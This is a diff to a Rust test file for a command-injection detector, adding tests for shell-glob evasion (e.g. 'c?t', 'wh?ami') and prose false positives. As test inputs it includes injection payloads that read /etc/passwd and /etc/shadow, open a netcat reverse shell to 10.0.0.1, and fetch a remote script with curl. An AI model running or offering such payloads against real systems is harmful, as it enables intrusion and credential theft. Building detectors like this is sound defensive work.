@@ -56,6 +56,78 @@ fn cmdi_wrapped_rare_and_evasive_commands_score_high() {
     }
 }
 
+/// The shell expands a globbed command word against the files of a
+/// directory, so `c?t` runs `cat`: the glob is resolved against the command
+/// lists, and after a separator it is itself evidence.
+#[test]
+fn cmdi_globbed_command_names_score_high() {
+    for p in [
+        ";/bin/c?t /etc/passwd",
+        ";/bin/ca[t] /etc/shadow",
+        "x;wh?ami",
+        "x|wh*ami",
+        "1|/b??/n? -e /bin/sh 10.0.0.1 4444",
+        "a;/usr/bin/[c]url http://10.0.0.1/x.sh",
+        "$(wh[a-z]ami)",
+        "&& n[!x]tstat -an",
+    ] {
+        assert!(s(p) >= 5, "{p} scored {}", s(p));
+    }
+}
+
+/// Question marks and asterisks as prose and arithmetic use them: at the
+/// end of a word, around numbers, in footnote brackets.
+#[test]
+fn cmdi_globs_in_prose_score_low() {
+    for p in [
+        "who? me",
+        "ok; really?? are you sure?",
+        "a & B*C",
+        "2*3 | 4*5",
+        "see [1]; note[s] here",
+        "x; who? what? when?",
+        "*very* important; *do* read",
+        "size: 10*20 | colour: r?d",
+    ] {
+        assert!(s(p) < 5, "{p} scored {}", s(p));
+    }
+}
+
+#[test]
+fn glob_command_expands_the_way_a_shell_does() {
+    use super::commands::glob_command;
+    let g = |w: &str| glob_command(w.as_bytes()).map(|n| String::from_utf8_lossy(n).into_owned());
+    assert_eq!(g("c?t").as_deref(), Some("cat"));
+    assert_eq!(g("CA[T]").as_deref(), Some("cat"));
+    assert_eq!(g("wh*mi").as_deref(), Some("whoami"));
+    assert_eq!(g("who[!x]mi").as_deref(), Some("whoami"));
+    assert_eq!(g("who[^x]mi").as_deref(), Some("whoami"));
+    assert_eq!(g("c[!a]t").as_deref(), Some("cut"));
+    assert_eq!(g("if[a-d]onfig").as_deref(), Some("ifconfig"));
+    assert_eq!(g("[]c]at").as_deref(), Some("cat"));
+    // one letter is enough after a path, not without one
+    assert!(g("/b??/n?").is_some());
+    assert_eq!(g("n?"), None);
+    // trailing globs are prose; a `[` without its `]` is no class
+    assert_eq!(g("who?"), None);
+    assert_eq!(g("ca[t"), None);
+    assert_eq!(g("c?tt"), None);
+    assert_eq!(g("cat"), None);
+    // one `*` at most: each name is then matched from both ends
+    assert_eq!(g("w*o*mi"), None);
+}
+
+/// The glob search is bounded per view; padding a value with globbed words
+/// that name nothing, to spend that budget, is itself caught.
+#[test]
+fn cmdi_glob_padding_does_not_hide_the_command() {
+    let padded = format!("{};/bin/c?t /etc/hosts", ";?ab".repeat(80));
+    assert!(s(&padded) >= 5, "scored {}", s(&padded));
+    // a list of file patterns, one per line, is not a command line
+    let ignore = "*.log\n*.tmp\nbuild/\n*.o\n*.pyc\n.env\n*.swp\n".repeat(3);
+    assert!(s(&ignore) < 5, "scored {}", s(&ignore));
+}
+
 #[test]
 fn cmdi_tool_words_in_prose_score_low() {
     for p in [
@@ -232,6 +304,11 @@ const PIECES: &[&str] = &[
     "/dev/udp/",
     "/???/",
     "c?t",
+    "wh?ami",
+    "ca[t]",
+    "[!x]",
+    "n?",
+    "*",
     "<!--#exec",
     "for ",
     "FOR ",
